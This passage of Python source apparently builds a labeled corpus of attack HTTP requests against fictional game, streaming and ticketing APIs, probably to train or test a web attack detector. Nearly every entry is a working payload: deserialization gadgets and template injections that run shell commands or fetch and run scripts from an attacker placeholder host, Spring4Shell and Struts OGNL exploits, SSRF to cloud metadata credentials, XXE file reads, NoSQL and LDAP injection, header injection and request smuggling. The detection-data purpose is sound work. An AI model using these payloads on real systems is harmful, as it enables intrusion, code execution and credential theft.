    out.append(mk(c, "dotnet_deser", "POST", "/v1/saves/sync", game(rng, G_SAVE, engine="unity", ctype="application/json"),
                  jdump({"slot": 3, "format": "binaryformatter", "data": base64.b64encode(dotnet_binaryformatter()).decode()})))
    out.append(mk(c, "dotnet_deser", "POST", "/v1/saves/sync", game(rng, G_SAVE, engine="unity", ctype="application/json"),
                  jdump({"slot": 2, "data": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                                             "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib",
                                                                                        "$values": ["cmd.exe", "/c powershell -nop -c \"iwr http://%s/p.ps1|iex\"" % ATK_IP]},
                                             "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}})))
    out.append(mk(c, "jackson", "POST", "/v1/events/batch", game(rng, G_TELE, ctype="application/json", auth=False),
                  jdump({"app_id": "shatterpoint", "events": [["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s:1389/Obj" % ATK_IP, "autoCommit": True}]]})))
    out.append(mk(c, "fastjson", "POST", "/v1/matchmaking/tickets", game(rng, G_MATCH, ctype="application/json"),
                  jdump({"playlist": "casual_tdm", "attributes": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://%s:1099/Exploit" % ATK_IP, "autoCommit": True}})))
    h = browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/x-www-form-urlencoded"], ["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]]
    out.append(mk(c, "spring4shell", "POST", "/account/profile", h, form([
        ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"),
        ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")])))
    ognl = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])"
            ".(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())"
            ".(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}")
    out.append(mk(c, "ognl", "POST", "/tickets/checkout.action", [["Host", "legacy.seatrush.com"], ["User-Agent", rng.choice(BROWSER_UAS)], ["Content-Type", ognl], ["Accept", "*/*"]], "x=1"))
    out.append(mk(c, "spel", "GET", "/v1/leaderboards/ranked_s7?sort=" + pq("T(java.lang.Runtime).getRuntime().exec('curl %s')" % OAST) + "&limit=10", game(rng, G_API)))
    yml = "mod:\n  id: better_hud\n  loader: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://%s/yaml-payload.jar\"]]]]\n" % ATK_IP
    out.append(mk(c, "snakeyaml", "PUT", "/api/v1/mods/4471/config", api(rng, G_MODS, ctype="application/x-yaml"), yml))
    xs = ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\">"
          "<target class=\"java.lang.ProcessBuilder\"><command><string>bash</string><string>-c</string><string>curl %s|sh</string></command></target>"
          "<action>start</action></handler></dynamic-proxy></sorted-set>" % ATK_IP)
    out.append(mk(c, "xstream", "POST", "/api/server/plugins/config", api(rng, "mc.ironforge-games.com", ua="Java/17.0.10", ctype="application/xml"), xs))
    return out


def a_ssrf():
    rng, out = R("a_ssrf"), []
    c = "ssrf"

    def pod(url, sub="podcast_feed"):
        out.append(mk(c, sub, "POST", "/api/v1/shows/submit", api(rng, POD_API, ctype="application/json", extra=[["Origin", "https://podcasters.tunewave.fm"]]),
                      jdump({"feed_url": url, "category": "Comedy", "explicit": False})))
    pod("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    out.append(mk(c, "podcast_feed", "GET", "/api/v1/shows/lookup?" + qs([("url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"), ("refresh", "true")]),
                  api(rng, POD_API, ua=rng.choice(PODCAST_UAS))))
    pod("http://2852039166/latest/user-data")
    pod("http://0251.0376.0251.0376/latest/meta-data/")
    pod("https://feeds.simplecast.com@169.254.169.254/latest/meta-data/")
    h = [["Host", POD_API], ["User-Agent", "Buzzsprout-WebSub/1.2"], ["Content-Type", "application/x-www-form-urlencoded"]]
    out.append(mk(c, "podcast_feed", "POST", "/websub/hub", h, form([("hub.mode", "publish"), ("hub.url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")])))

    def thumb(url, sub="thumbnail_url"):
        out.append(mk(c, sub, "PATCH", "/api/v2/videos/%s" % asset_id(rng), api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                      jdump({"thumbnail_url": url})))
    thumb("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A")
    thumb("dict://127.0.0.1:11211/stats")
    thumb("file:///etc/passwd")
    thumb("http://0x7f000001:8500/v1/agent/self")
    thumb("http://169.254.169.254.nip.io/latest/meta-data/")
    out.append(mk(c, "webhook", "POST", "/helix/eventsub/subscriptions", api(rng, LIVE_API, ctype="application/json", extra=[["Client-Id", b62(rng, 30).lower()]]),
                  jdump({"type": "stream.online", "version": "1", "condition": {"broadcaster_user_id": "1234567"},
                         "transport": {"method": "webhook", "callback": "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "secret": "s3cretsecret"}})))
    out.append(mk(c, "webhook", "POST", "/helix/eventsub/subscriptions", api(rng, LIVE_API, ctype="application/json", extra=[["Client-Id", b62(rng, 30).lower()]]),
                  jdump({"type": "channel.follow", "version": "2", "condition": {"broadcaster_user_id": "1234567"},
                         "transport": {"method": "webhook", "callback": "http://localhost:8080/actuator/env", "secret": "s3cretsecret"}})))
    out.append(mk(c, "webhook", "POST", "/v1/webhooks", api(rng, TIX_API, ctype="application/json"),
                  jdump({"event": "order.completed", "url": "http://169.254.169.254/metadata/instance?api-version=2021-02-01"})))
    out.append(mk(c, "link_preview", "POST", "/api/unfurl", api(rng, LIVE_API, ctype="application/json"), jdump({"url": "http://0.0.0.0:2375/containers/json"})))
    out.append(mk(c, "image_fetch", "GET", "/image/fetch/w_400,h_300,c_fill/http://169.254.169.254/latest/meta-data/", [["Host", IMG], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/*"]]))
    out.append(mk(c, "image_fetch", "GET", "/unsafe/300x200/http://127.0.0.1:8080/server-status", [["Host", IMG], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/*"]]))
    out.append(mk(c, "image_fetch", "GET", "/proxy?url=http%3A%2F%2F%5B%3A%3A1%5D%3A8500%2Fv1%2Fkv%2F%3Frecurse&w=400", [["Host", IMG], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/*"]]))
    out.append(mk(c, "subtitle_import", "POST", "/api/v2/videos/%s/captions/import" % asset_id(rng), api(rng, VID_API, ctype="application/json"),
                  jdump({"url": "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "language": "en"})))
    out.append(mk(c, "subtitle_import", "POST", "/api/v2/videos/%s/captions/import" % asset_id(rng), api(rng, VID_API, ctype="application/json"),
                  jdump({"url": "jar:http://%s/x.zip!/subs.vtt" % ATK_IP, "language": "de"})))
    out.append(mk(c, "cdn_origin", "PATCH", "/service/%s/version/3/backend/origin" % b62(rng, 22), [["Host", CDN_API], ["User-Agent", "curl/8.5.0"], ["Fastedge-Key", b62(rng, 32)],
                                                                                                    ["Content-Type", "application/json"]],
                  jdump({"origin_url": "http://169.254.169.254/latest/api/token", "shield": "fra"})))
    # variant playlists and manifests handed to the packager
    master = ("#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-STREAM-INF:BANDWIDTH=5000000,RESOLUTION=1920x1080\nhttp://10.0.0.5:8080/admin/\n"
              "#EXT-X-STREAM-INF:BANDWIDTH=1500000,RESOLUTION=960x540\nhttp://169.254.169.254/latest/meta-data/iam/security-credentials/transcoder-role\n")
    out.append(mk(c, "hls_variant", "POST", "/api/v2/live/ingest/playlists", api(rng, VID_API, ctype="application/vnd.apple.mpegurl"), master))
    media = ("#EXTM3U\n#EXT-X-TARGETDURATION:6\n#EXT-X-KEY:METHOD=AES-128,URI=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"\n"
             "#EXTINF:6.0,\nseg0.ts\n#EXT-X-ENDLIST\n")
    out.append(upload_file(rng, c, "hls_variant", "vod.m3u8", "application/vnd.apple.mpegurl", media, uri="/api/v2/imports/hls"))
    m3u = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nhttp://127.0.0.1:9200/_cat/indices?v\n#EXT-X-ENDLIST\n"
    out.append(upload_file(rng, c, "hls_variant", "holiday.mp4", "video/mp4", m3u))
    mpd = ("<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT10S\" minBufferTime=\"PT2S\" profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\">"
           "<BaseURL>http://localhost:9200/_cat/</BaseURL><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"800000\">"
           "<BaseURL>indices?v</BaseURL></Representation></AdaptationSet></Period></MPD>\n")
    out.append(mk(c, "dash_baseurl", "POST", "/api/v2/imports/dash", api(rng, VID_API, ctype="application/dash+xml"), mpd))
    return out


def a_xxe():
    rng, out = R("a_xxe"), []
    c = "xxe"
    ttml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE tt [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
            "<tt xmlns=\"http://www.w3.org/ns/ttml\" xml:lang=\"en\"><body><div><p begin=\"00:00:01.000\" end=\"00:00:05.000\">&xxe;</p></div></body></tt>\n")
    out.append(mk(c, "ttml", "PUT", "/api/v2/videos/%s/captions/en?kind=subtitles" % asset_id(rng), api(rng, VID_API, ctype="application/ttml+xml"), ttml))
    ttml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:xi=\"http://www.w3.org/2001/XInclude\" xml:lang=\"en\"><body><div>"
            "<p begin=\"00:00:01.000\" end=\"00:00:05.000\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></p></div></body></tt>\n")
    ct, body = multipart(rng, [("language", None, None, "en"), ("file", "ep03.ttml", "application/ttml+xml", ttml)])
    out.append(mkraw(c, "ttml", "POST", "/api/v2/videos/%s/captions" % asset_id(rng), browser(rng, VID_API, origin=VID_WEB) + [["Content-Type", ct]], body))
    mpd = ("<?xml version=\"1.0\"?>\n<!DOCTYPE MPD [<!ENTITY % remote SYSTEM \"http://" + ATK_IP + "/evil.dtd\"> %remote; %intern; %trick;]>\n"
           "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><Period/></MPD>\n")
    out.append(mk(c, "dash_mpd", "POST", "/api/v2/imports/dash", api(rng, VID_API, ctype="application/dash+xml"), mpd))
    mpd16 = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!DOCTYPE MPD [<!ENTITY xxe SYSTEM \"file:///proc/self/environ\">]>\n"
             "<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><ProgramInformation><Title>&xxe;</Title></ProgramInformation><Period/></MPD>\n")
    out.append(mkraw(c, "dash_mpd", "POST", "/api/v2/imports/dash", api(rng, VID_API, ctype="application/dash+xml; charset=utf-16"), b"\xff\xfe" + mpd16.encode("utf-16-le")))
    svg = ("<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]>\n"
           "<svg width=\"256\" height=\"256\" xmlns=\"http://www.w3.org/2000/svg\"><text x=\"10\" y=\"40\" font-size=\"14\">&x;</text></svg>\n")
    ct, body = multipart(rng, [("avatar", "clan-logo.svg", "image/svg+xml", svg)])
    out.append(mkraw(c, "svg", "POST", "/v1/clans/404/logo", game(rng, G_API) + [["Content-Type", ct]], body))
    rss = rss_doc(rng, "&xxe;").replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
                                         "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"file:///var/www/app/config/secrets.yml\">]>\n")
    out.append(mk(c, "rss", "PUT", "/api/v1/shows/%s/feed.xml" % b62(rng, 10), api(rng, POD_API, ctype="application/rss+xml; charset=utf-8"), rss))
    soap = ("<?xml version=\"1.0\" encoding=\"utf-8\"?><!DOCTYPE soap:Envelope [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>"
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><AcquireLicense xmlns=\"http://schemas.microsoft.com/DRM/2007/03/protocols\">"
            "<challenge><Challenge><LA><Version>&meta;</Version></LA></Challenge></challenge></AcquireLicense></soap:Body></soap:Envelope>")
    out.append(mk(c, "playready_soap", "POST", "/playready/rightsmanager.asmx", [["Host", VID_DRM], ["User-Agent", PLAYER_UAS[6]], ["Content-Type", "text/xml; charset=utf-8"],
                                                                                ["SOAPAction", "\"http://schemas.microsoft.com/DRM/2007/03/protocols/AcquireLicense\""]], soap))
    lol = ("<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n <!ENTITY lol \"lol\">\n <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
           " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
           " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n]>\n<rss version=\"2.0\"><channel><title>&lol5;</title></channel></rss>\n")
    out.append(mk(c, "rss", "PUT", "/api/v1/shows/%s/feed.xml" % b62(rng, 10), api(rng, POD_API, ctype="application/rss+xml"), lol))
    opml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE opml [<!ENTITY % remote SYSTEM \"http://" + OAST + "/opml.dtd\"> %remote;]>\n"
            "<opml version=\"2.0\"><head><title>My podcasts</title></head><body><outline type=\"rss\" text=\"Side Quest\" xmlUrl=\"https://feeds.simplecast.com/54nAGcIl\"/></body></opml>\n")
    ct, body = multipart(rng, [("file", "subscriptions.opml", "text/x-opml", opml)])
    out.append(mkraw(c, "opml", "POST", "/v1/me/podcasts/import", api(rng, MUS_API, ua=rng.choice(PODCAST_UAS)) + [["Content-Type", ct]], body))
    xliff = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE xliff [<!ENTITY cfg SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/portal/config.php\">]>\n"
             "<xliff version=\"1.2\" xmlns=\"urn:oasis:names:tc:xliff:document:1.2\"><file source-language=\"en\" target-language=\"de\" datatype=\"plaintext\" original=\"ui.json\">"
             "<body><trans-unit id=\"menu.play\"><source>Play</source><target>&cfg;</target></trans-unit></body></file></xliff>\n")
    out.append(mk(c, "xliff", "POST", "/api/v1/mods/4471/translations?lang=de", api(rng, G_MODS, ctype="application/xml"), xliff))
    return out


def a_ssti():
    rng, out = R("a_ssti"), []
    c = "ssti"

    def tmpl(sub, body, host=LIVE_API, uri="/v1/alerts/templates"):
        out.append(mk(c, sub, "POST", uri, api(rng, host, ctype="application/json", extra=[["Origin", LIVE_WEB if host == LIVE_API else TIX_WEB]]), jdump(body)))
    tmpl("notification_template", {"event": "follow", "message": "Thanks {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }} for the follow!"})
    tmpl("notification_template", {"event": "sub", "message": "{{''.__class__.__mro__[1].__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}"})
    tmpl("notification_template", {"event": "raid", "message": "{{ cycler.__init__.__globals__.os.popen('curl %s/s|sh').read() }} is raiding!" % ATK_IP})
    tmpl("notification_template", {"event": "cheer", "message": "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"})
    tmpl("notification_template", {"event": "host", "message": "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"})
    tmpl("email_template", {"name": "order_confirmation", "subject": "Your tickets for {{event.name}}", "html": "<p>Hi {{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}</p>"}, TIX_API, "/v1/admin/email-templates")
    tmpl("email_template", {"name": "waitlist", "subject": "{{['cat /etc/passwd']|filter('system')}}", "html": "<p>You're in!</p>"}, TIX_API, "/v1/admin/email-templates")
    tmpl("email_template", {"name": "refund", "html": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}, TIX_API, "/v1/admin/email-templates")
    tmpl("email_template", {"name": "reminder", "html": "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"}, TIX_API, "/v1/admin/email-templates")
    tmpl("chatbot_command", {"command": "!uptime", "response": "<%= `cat /etc/passwd` %>"}, LIVE_API, "/v1/bot/commands")
    tmpl("chatbot_command", {"command": "!discord", "response": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}"
                             "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"}, LIVE_API, "/v1/bot/commands")
    tmpl("chatbot_command", {"command": "!so", "response": "Go follow {system('id')} at streamhaven.live!"}, LIVE_API, "/v1/bot/commands")
    tmpl("chatbot_command", {"command": "!song", "response": "${self.module.cache.util.os.system(\"id\")}"}, LIVE_API, "/v1/bot/commands")
    tmpl("notification_template", {"event": "donation", "message": "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"); } thanks for ${amount}!"})
    tmpl("notification_template", {"event": "follow", "message": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"})
    tmpl("notification_template", {"event": "sub", "message": "{% import os %}{{ os.popen(\"id\").read() }}"})
    tmpl("notification_template", {"event": "bits", "message": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"})
    out.append(mk(c, "template_preview", "GET", "/v1/admin/email-templates/preview?" + qs([("view", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x")]),
                  browser(rng, TIX_API, origin=TIX_WEB)))
    out.append(mk(c, "template_preview", "GET", "/v1/alerts/preview?msg=%7B%7B7*'7'%7D%7D%7B%7Bconfig.__class__.__init__.__globals__['os'].popen('id').read()%7D%7D",
                  browser(rng, LIVE_API, origin=LIVE_WEB)))
    return out


def a_nosqli():
    rng, out = R("a_nosqli"), []
    c = "nosqli"

    def login(body, host=G_AUTH, uri="/v1/auth/login"):
        out.append(mk(c, "login", "POST", uri, browser(rng, host, origin=G_WEB) + [["Content-Type", "application/json"]], jdump(body)))
    login({"username": {"$ne": None}, "password": {"$ne": None}})
    login({"email": "admin@ironforge-games.com", "password": {"$regex": "^a"}})
    login({"username": "admin", "password": {"$gt": ""}}, LIVE_API, "/api/auth/login")
    out.append(mk(c, "login", "POST", "/account/login", browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/x-www-form-urlencoded"]],
                  "username%5B%24ne%5D=toto&password%5B%24ne%5D=toto&remember=1"))
    out.append(mk(c, "login", "GET", "/v1/auth/check?username[$regex]=^adm.*&password[$exists]=true", game(rng, G_AUTH, auth=False)))
    out.append(mk(c, "reset_token", "POST", "/v1/auth/password/reset", browser(rng, G_AUTH, origin=G_WEB) + [["Content-Type", "application/json"]],
                  jdump({"token": {"$ne": ""}, "new_password": "Winter2024!"})))
    out.append(mk(c, "leaderboard", "GET", "/v1/leaderboards/ranked_s7/entries?filter[score][$gt]=0&filter[$where]=sleep(5000)", game(rng, G_API)))
    out.append(mk(c, "leaderboard", "POST", "/v1/leaderboards/ranked_s7/query", game(rng, G_API, ctype="application/json"),
                  jdump({"filter": {"$where": "function(){ return this.role == 'admin' || sleep(5000) }"}, "limit": 50})))
    out.append(mk(c, "leaderboard", "POST", "/v1/leaderboards/ranked_s7/query", game(rng, G_API, ctype="application/json"),
                  jdump({"filter": {"$or": [{"banned": {"$exists": False}}, {"name": {"$regex": ".*"}}]}, "projection": {"email": 1, "password_hash": 1}})))
    out.append(mk(c, "leaderboard", "POST", "/v1/leaderboards/ranked_s7/query", game(rng, G_API, ctype="application/json"),
                  jdump({"filter": {"$expr": {"$function": {"body": "function(){ return sleep(3000) || true }", "args": [], "lang": "js"}}}})))
    out.append(mk(c, "player_lookup", "POST", "/v1/players/find", game(rng, G_API, ctype="application/json"), jdump({"display_name": {"$gt": ""}, "platform": "steam"})))
    out.append(mk(c, "inventory", "POST", "/v1/inventory/search", game(rng, G_API, ctype="application/json"),
                  jdump({"pipeline": [{"$match": {"rarity": "legendary"}}, {"$lookup": {"from": "accounts", "localField": "owner", "foreignField": "_id", "as": "acct"}},
                                      {"$project": {"acct.email": 1, "acct.password_hash": 1}}]})))
    out.append(mk(c, "player_lookup", "GET", "/v1/players?q=" + pq('{"name":{"$regex":"^adm"},"role":{"$ne":"player"}}'), browser(rng, G_API, origin=G_WEB)))
    out.append(mk(c, "redeem_code", "POST", "/v1/store/redeem", game(rng, G_API, ctype="application/json"), jdump({"code": {"$nin": []}, "platform": "steam"})))
    out.append(mk(c, "player_lookup", "GET", "/v1/players/search?name=abc%27%3Breturn%20true%3Bvar%20x%3D%27", game(rng, G_API)))
    out.append(mk(c, "queue_token", "POST", "/v1/queue/validate", browser(rng, TIX_QUEUE, origin=TIX_WEB) + [["Content-Type", "application/json"]],
                  jdump({"event": "erastour24lis", "session_id": {"$regex": ".{32}"}})))
    return out


def a_ldap():
    rng, out = R("a_ldap"), []
    c = "ldap"
    for user in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin*)((|userpassword=*)"]:
        out.append(mk(c, "studio_sso", "POST", "/sso/login", browser(rng, "sso.ironforge-games.com", origin="https://sso.ironforge-games.com") +
                      [["Content-Type", "application/x-www-form-urlencoded"]], form([("username", user), ("password", "x"), ("realm", "STUDIO")])))
    out.append(mk(c, "studio_directory", "GET", "/directory/search?cn=%2A%29%28%26%28objectClass%3Duser%29%28userPassword%3D%2A%29%29", browser(rng, "sso.ironforge-games.com")))
    out.append(mk(c, "studio_directory", "POST", "/api/staff/lookup", api(rng, "sso.ironforge-games.com", ctype="application/json"),
                  jdump({"user": "jdoe)(|(memberOf=cn=Domain Admins,cn=Users,dc=ironforge,dc=local)"})))
    return out


def a_crlf():
    rng, out = R("a_crlf"), []
    c = "crlf"
    out.append(mk(c, "redirect", "GET", "/auth/callback?code=%s&redirect=/home%%0d%%0aSet-Cookie:%%20sid=attacker;%%20Domain=.ironforge-games.com" % b62(rng, 20),
                  browser(rng, G_AUTH, accept="text/html,*/*;q=0.8")))
    out.append(mk(c, "deep_link", "GET", "/open?link=streamhaven://channel/pixel_paula%0D%0ALocation:%20https://streamhaven-login.example", browser(rng, "link.streamhaven.live", accept="text/html")))
    out.append(mk(c, "deep_link", "GET", "/open?link=vidora://watch/%s%%E5%%98%%8A%%E5%%98%%8DSet-Cookie:%%20session=fixated" % asset_id(rng), browser(rng, "go.vidora.tv", accept="text/html")))
    out.append(mk(c, "download_name", "GET", "/dl?file=clip.mp4%0d%0aContent-Disposition:%20attachment;filename=update.exe", browser(rng, VID_CDN, accept="*/*")))
    out.append(mk(c, "response_split", "GET", "/watch?v=%s%%0d%%0aContent-Length:%%200%%0d%%0a%%0d%%0aHTTP/1.1%%20200%%20OK%%0d%%0aContent-Type:%%20text/html%%0d%%0a%%0d%%0a%%3Cscript%%3Ealert(1)%%3C/script%%3E" % asset_id(rng),
                  browser(rng, "www.vidora.tv", accept="text/html")))
    out.append(mk(c, "redirect", "GET", "/lang?hl=en%250d%250aSet-Cookie:%2520lang=x%253Bpath=/", browser(rng, "www.tunewave.fm", accept="text/html")))
    out.append(mk(c, "queue_redirect", "GET", "/?c=seatrush&e=erastour24lis&t=https%3A%2F%2Fwww.seatrush.com%2F%0d%0aSet-Cookie%3A%20queue_pass%3D1", browser(rng, TIX_QUEUE, accept="text/html")))
    out.append(mk(c, "redirect", "POST", "/v1/auth/logout", browser(rng, G_AUTH, origin=G_WEB) + [["Content-Type", "application/json"]],
                  jdump({"return_to": "/goodbye\r\nLocation: https://ironforge-support.example/login\r\n"})))
    out.append(mk(c, "oauth_redirect", "GET", "/oauth/authorize?response_type=code&client_id=%s&redirect_uri=%s&state=x" % (b62(rng, 24), "https%3A%2F%2Fplay.ironforge-games.com%2Fcb%0D%0AX-Injected%3A%20true"),
                  browser(rng, G_AUTH, accept="text/html")))
    out.append(mk(c, "mail_header", "POST", "/v1/support/contact", browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/x-www-form-urlencoded"]],
                  "name=Bob%0D%0ABcc:%20all-customers@seatrush.com&email=bob%40example.com&message=refund%20please"))
    return out


def a_protocol():
    rng, out = R("a_protocol"), []
    c = "protocol"
    ua = rng.choice(UNITY_UAS)
    out.append(mkwire(c, "smuggling", "POST /v1/events/batch HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/json\r\nContent-Length: 6\r\n"
                      "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nG" % (G_TELE, ua)))
    smug = "GPOST /admin/purge-all HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1" % CDN_API
    out.append(mkwire(c, "smuggling", "POST /service/x/purge HTTP/1.1\r\nHost: %s\r\nUser-Agent: curl/8.5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                      "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (CDN_API, len(smug), smug)))
    out.append(mkwire(c, "smuggling", "POST /api/chat/speedrunsdaily/send HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 42\r\n"
                      "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /helix/moderation/bans HTTP/1.1\r\nX: x" % LIVE_API))
    out.append(mkwire(c, "smuggling", "POST /v1/leaderboards/ranked_s7/scores HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nTransfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n"
                      "0\r\n\r\nGET /v1/admin/users HTTP/1.1\r\nHost: %s\r\n\r\n" % (G_API, G_API)))
    out.append(mkwire(c, "smuggling", "POST /v1/saves/sync HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"
                      "Content-Length: 11\r\n\r\n0\r\n\r\nGET /x" % G_SAVE))
    out.append(mkwire(c, "duplicate_cl", "POST /v2/events/4411822/holds HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 18\r\nContent-Length: 77\r\n\r\n"
                      "{\"seats\":[\"A-1\"]}\nGET /v2/admin/events/4411822/release-all HTTP/1.1\r\nHost: %s\r\n\r\n" % (TIX_API, TIX_API)))
    out.append(mkwire(c, "cl0", "GET /vod/%s/master.m3u8 HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: 67\r\n\r\n"
                      "GET /internal/origin-keys HTTP/1.1\r\nHost: %s\r\nX-Foo: bar" % (asset_id(rng), VID_CDN, PLAYER_UAS[0], VID_CDN)))
    ranges = "bytes=0-," + ",".join("5-%d" % i for i in range(0, 1300))
    out.append(mk(c, "range_abuse", "GET", "/vod/%s/1080p/main.mp4" % asset_id(rng), player(rng, VID_CDN, rng_hdr=ranges)))
    ranges = "bytes=" + ",".join("0-%d" % (rng.randint(1, 9)) for _ in range(400))
    out.append(mk(c, "range_abuse", "GET", "/podcasts/%s/ep-101.mp3" % b62(rng, 10), [["Host", "media.tunewave.fm"], ["User-Agent", PODCAST_UAS[0]], ["Range", ranges], ["Accept", "*/*"]]))
